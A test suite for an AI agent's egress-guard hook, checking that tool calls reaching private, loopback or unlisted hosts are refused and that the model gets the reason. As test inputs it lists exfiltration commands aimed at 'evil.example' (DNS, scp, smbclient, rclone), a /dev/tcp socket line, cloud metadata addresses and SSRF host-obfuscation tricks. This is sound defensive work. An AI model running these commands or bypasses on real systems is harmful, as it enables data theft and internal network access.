import { ConfigError } from "@belay/core/AgentError"
import { defineHook } from "@belay/core/AgentHook"
import { createAgent } from "@belay/core/createAgent"
import { defineTool } from "@belay/core/defineTool"
import * as HookAction from "@belay/core/HookAction"
import type { Json } from "@belay/core/Json"
import * as EgressGuard from "@belay/hooks/EgressGuard"
import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import { cpuMs } from "../../../../test/support/cpu.ts"
import { bad, spellings } from "../support/addresses.ts"
import { decide } from "../support/decide.ts"
import { asks, scripted } from "../support/guarded.ts"

/** Why a call is rejected. */
const whyNot = (args: Json, options: EgressGuard.Options = {}) =>
  Effect.map(
    decide(EgressGuard.make(options), "fetch", args),
    ({ _tag, reason }) => _tag === "Reject" ? reason : undefined
  )

describe("EgressGuard", () => {
  it.effect.each(bad)("refuses a URL with %s in every spelling", ([address]) =>
    Effect.gen(function*() {
      for (const host of spellings(address)) {
        for (
          const url of [
            `http://${host}/x`,
            `HTTPS://${host}:8080?q`,
            `see http://${host}/, please`,
            `http:${host}/`,
            `//${host}/x`
          ]
        ) {
          assert.isDefined(yield* whyNot({ text: url }), url)
        }
      }
    }))

  it.effect("allows public hosts, also in a text and in a command", () =>
    Effect.gen(function*() {
      const texts = [
        "https://example.com/a?b=c#d",
        "see (https://example.com/a), or http://example.org.",
        "http://93.184.215.14/",
        "http://[2606:4700::1111]/x",
        "curl -s -o out.txt https://example.com | jq .",
        "git clone https://example.com/a.git && cd a",
        "HTTPS://EXAMPLE.COM.",
        "ping example.com"
      ]
      for (const text of texts) assert.isUndefined(yield* whyNot({ text }), text)
    }))

  it.effect("ignores texts without a host", () =>
    Effect.gen(function*() {
      const texts = [
        "//comment next\nconst a = 1",
        "note: hello",
        "settings.local",
        "::2",
        "::",
        "app.internal",
        "12:30",
        "a/b/c.txt",
        "10.5",
        "1.2.3",
        "version 10.0.0.1 is out",
        "TODO: fix",
        "std::vector",
        "C:\\Users",
        "key=value",
        "ada@example.com",
        "127",
        "0",
        "-1",
        "https://",
        "x ? y : z",
        "curl is a tool",
        "localhost is a name",
        "{\"a\": 1}",
        "10",
        "",
        "a:b:c",
        "echo 3 | wc -l",
        "curl --max-time 10 https://example.com"
      ]
      for (const text of texts) assert.isUndefined(yield* whyNot({ text, n: 3000, list: [text] }), text)
    }))

  it.effect("rejects hosts without a scheme where a host is expected", () =>
    Effect.gen(function*() {
      const args: ReadonlyArray<Json> = [
        { host: "127.1" },
        { hostname: "2130706433" },
        { server: "localhost:8080" },
        { base_url: "10.0.0.1:80/x" },
        { ip: "::1" },
        { proxy: "0x7f000001" },
        { target: "metadata.google.internal" },
        { baseUrl: "192.168.0.1" },
        { any: "169.254.169.254" },
        { any: "localhost:3000/x" },
        { any: "[::1]:80" },
        { command: "curl 127.0.0.1:8080/x" },
        { command: "cd /tmp && wget -q 2130706433" },
        { command: "nc 10.0.0.1 22" },
        { command: "curl -x localhost:3128 https://example.com" },
        { command: "ssh root@192.168.0.1" },
        { command: "x=$(curl 0x7f000001)" },
        { command: "/usr/bin/curl 127.1" },
        { command: "curl http://${HOST}/" },
        { command: "curl --url=127.0.0.1" },
        { command: "curl --resolve example.com:443:127.0.0.1 https://example.com" },
        { command: "exec 3<>/dev/tcp/localhost/80" },
        { command: "git clone git@10.0.0.1:a.git" },
        { command: "psql -h 192.168.0.1" },
        { command: "cqlsh -H 192.168.0.1" },
        // Only a part of this line can be read.
        { command: "python -c \"os.system('cd /; curl 127.0.0.1:8080/x')\"" },
        { script: `${"echo waiting for it; ".repeat(500)} curl 127.1` },
        { any: "printer.local:631/x" },
        { any: "fd00:ec2::254" },
        [["http://localhost"]],
        "http://localhost",
        { "http://localhost": 1 },
        { host: 2130706433 }
      ]
      for (const one of args) assert.isDefined(yield* whyNot(one), JSON.stringify(one))
    }))

  it.effect("rejects URLs that hide their host", () =>
    Effect.gen(function*() {
      const urls = [
        "http://good@127.0.0.1/",
        "http://good:80@127.0.0.1/",
        "http://example.com@evil.example",
        "http://a:b@example.com",
        "http://@127.0.0.1",
        "http://example.com\\@127.0.0.1/",
        "http://127.0.0.1\\@example.com/",
        "http:\\\\127.0.0.1/",
        "http:/127.0.0.1/",
        "http:///127.0.0.1/",
        "///127.0.0.1/",
        "\\\\127.0.0.1\\x",
        "http://127.0.0.1#@example.com",
        "http://127.0.0.1?@example.com",
        "http://127.0.0\n.1/",
        "ht\ntp://127.0.0.1",
        " http://127.0.0.1",
        "\u0001http://127.0.0.1",
        "http://127.0.0.1%00.example.com",
        "http://%31%32%37.0.0.1/",
        "http://[fe80::1%25eth0]/",
        "http://exa mple@127.0.0.1",
        "http://localhost./",
        "http://a..b/"
      ]
      for (const text of urls) assert.isDefined(yield* whyNot({ text }), JSON.stringify(text))
    }))

  it.effect("rejects every scheme that is not listed", () =>
    Effect.gen(function*() {
      const schemes = [
        "file",
        "ftp",
        "gopher",
        "dict",
        "ldap",
        "ldaps",
        "tftp",
        "jar",
        "data",
        "blob",
        "javascript",
        "vbscript",
        "ws",
        "wss",
        "sftp",
        "ssh",
        "telnet",
        "smb",
        "nfs",
        "unix",
        "http+unix",
        "view-source",
        "netdoc",
        "php",
        "phar",
        "expect",
        "node"
      ]
      for (const scheme of schemes) {
        assert.isDefined(yield* whyNot({ text: `${scheme}://example.com/x` }), scheme)
        assert.isDefined(yield* whyNot({ url: `${scheme}:x/y` }), scheme)
      }
      assert.strictEqual(
        yield* whyNot("ftp://example.com/a"),
        "ftp://example.com/a may not be reached: the scheme ftp is not allowed"
      )
      assert.isUndefined(yield* whyNot("ftp://example.com/a", { schemes: ["https", "ftp"] }))
      assert.isDefined(yield* whyNot("http://example.com/a", { schemes: ["https"] }))
    }))

  it.effect("takes code and names with a colon for what they are", () =>
    Effect.gen(function*() {
      const texts = [
        "import fs from \"node:fs\"",
        "const point = { data:1, file: 2 }",
        "FROM node:24-alpine",
        "image: php:8.3",
        "node:24",
        "ports: [\"ssh:22\"]"
      ]
      for (const text of texts) assert.isUndefined(yield* whyNot({ content: text, command: `echo '${text}'` }), text)
    }))

  it.effect("reads the hosts of commands, and not the names of files", () =>
    Effect.gen(function*() {
      const options = { allow: ["api.example.com"] }
      const refused = [
        "bash -c 'curl evil.example'",
        "scp a ada@evil.example:/tmp",
        "echo evil.example | xargs curl",
        "dig $(base64 a).evil.example",
        "git push origin main && git clone git@evil.example:r.git",
        "curl intranet/x",
        "HTTPS_PROXY=evil.example:80 curl https://api.example.com",
        "smbclient //evil.example/share -c 'put a'",
        "smbclient -L evil.example",
        "rclone copy a.txt :sftp,host=evil.example:/tmp"
      ]
      const allowed = [
        "openssl x509 -in cert.pem -noout",
        "curl -o a.json https://api.example.com",
        "git push origin main:feature.x",
        "rsync -a --exclude=*.log src/ out/",
        "ssh production uptime",
        "smbclient //files/share -c ls",
        "rclone copy a.txt backup.2024:notes/b.txt"
      ]
      for (const command of refused) assert.isDefined(yield* whyNot({ command }, options), command)
      for (const command of allowed) assert.isUndefined(yield* whyNot({ command }, options), command)
    }))

  it.effect("refuses a file of hosts that it cannot read where not every public host is allowed", () =>
    Effect.gen(function*() {
      const options = { allow: ["api.example.com"] }
      for (
        const command of [
          "curl -K hosts.cfg",
          "curl --config=hosts.cfg",
          "curl -sKhosts.cfg",
          "wget -qi hosts.txt",
          "wget --input-file hosts.txt",
          "aria2c -i hosts.txt"
        ]
      ) {
        assert.strictEqual(
          yield* whyNot({ command }, options),
          `hosts.${command.endsWith("cfg") ? "cfg" : "txt"} may not be reached: the hosts in this file are not known`
        )
        assert.isUndefined(yield* whyNot({ command }), command)
        assert.isDefined(yield* whyNot({ command }, { deny: ["evil.example"] }), command)
      }
      assert.isUndefined(yield* whyNot({ command: "echo 'url = api.example.com' | curl -K -" }, options))
      assert.isDefined(yield* whyNot({ command: "echo 'url = evil.example' | curl -K -" }, options))
      assert.isUndefined(yield* whyNot({ command: "echo api.example.com/a | wget -i -" }, options))
      assert.isDefined(yield* whyNot({ command: "printf 'api.example.com/a\\nevil.example/b' | wget -i -" }, options))
      assert.isDefined(yield* whyNot({ command: "aria2c -i - <<< evil.example" }, options))
      assert.isDefined(yield* whyNot({ command: "wget -i - <<< localhost:8080/a" }))
      assert.isUndefined(yield* whyNot({ command: "curl -K - <<< 'user-agent = a.b'" }, options))
    }))

  it.effect("applies its lists", () =>
    Effect.gen(function*() {
      const options = {
        allow: ["api.example.com", "*.docs.example.com", "example.org:8443", "localhost:3000", "[::1]:9"],
        deny: ["old.docs.example.com"]
      }
      const reached = [
        "https://api.example.com/",
        "https://API.example.com./",
        "https://a.docs.example.com",
        "https://example.org:8443/",
        "http://localhost:3000/x",
        "http://[::1]:9/"
      ]
      const refused = [
        "https://example.com",
        "https://docs.example.com",
        "https://evilapi.example.com",
        "https://api.example.com.evil.example",
        "https://old.docs.example.com",
        "https://example.org/",
        "http://localhost/",
        "http://localhost:3001/",
        "http://127.0.0.1:3000/",
        "http://[::1]/"
      ]
      for (const text of reached) assert.isUndefined(yield* whyNot({ text }, options), text)
      for (const text of refused) assert.isDefined(yield* whyNot({ text }, options), text)
      for (const text of ["curl localhost:3000/x", "curl -s http://localhost:3000/x | jq ."]) {
        assert.isUndefined(yield* whyNot({ text }, options), text)
      }
      assert.isDefined(yield* whyNot("http://x.local", { allow: ["*.local", "*"] }))
      assert.strictEqual(
        yield* whyNot("https://a.example", { deny: ["*.example"] }),
        "https://a.example may not be reached: a.example is denied"
      )
      assert.strictEqual(
        yield* whyNot("http://10.0.0.1"),
        "http://10.0.0.1 may not be reached: 10.0.0.1 is a private address"
      )
    }))

  it.effect("takes linear time for any text", () =>
    Effect.gen(function*() {
      for (const unit of ["http://", "http://a", "a.", "//", "1.", "curl ", "file:", "[::", "a@", "\\", ":"]) {
        const began = cpuMs()
        yield* whyNot({ text: unit.repeat(Math.ceil(100_000 / unit.length)) })
        assert.isBelow(cpuMs() - began, 2_000, unit)
      }
    }))

  it("rejects invalid lists", () => {
    assert.throws(
      () => EgressGuard.make({ allow: ["exa mple"] }),
      ConfigError,
      /egress-guard\.allow: expected example\.com, .*, found "exa mple"/
    )
    assert.throws(() => EgressGuard.make({ deny: ["https://example.com"] }), ConfigError, /egress-guard\.deny/)
    assert.throws(() => EgressGuard.make({ allow: ["a*b.com"] }), ConfigError)
    assert.throws(() => EgressGuard.make({ allow: [""] }), ConfigError)
    assert.throws(() => EgressGuard.make({ schemes: ["HTTP:"] }), ConfigError, /egress-guard\.schemes/)
  })

  it("gives the model the reason, and checks again when another hook changes the arguments", async () => {
    const ran: Array<unknown> = []
    const fetch = defineTool({
      name: "fetch",
      description: "Fetches",
      input: { type: "object" },
      execute: (args) => void ran.push(args)
    })
    const rewrite = defineHook({
      name: "rewrite",
      preToolCall: (event) =>
        JSON.stringify(event.args).includes("later")
          ? HookAction.transform({ id: event.id, name: event.name, args: { url: "http://127.1/" } })
          : undefined
    })
    const model = scripted([
      asks(["fetch", { url: "http://localhost/" }], ["fetch", { url: "https://later.example" }], ["fetch", {
        url: "https://example.com"
      }]),
      "done"
    ])
    await using agent = createAgent({
      provider: model.provider,
      tools: [fetch],
      hooks: [EgressGuard.make({ tools: "fetch" }), rewrite]
    })
    const { messages } = await agent.run("fetch")
    assert.deepEqual(ran, [{ url: "https://example.com" }])
    assert.deepEqual(messages.filter(({ role }) => role === "tool").map(({ content }) => content).slice(0, 2), [
      "http://localhost/ may not be reached: localhost is a loopback address",
      "http://127.1/ may not be reached: 127.0.0.1 is a loopback address"
    ])
  })
})
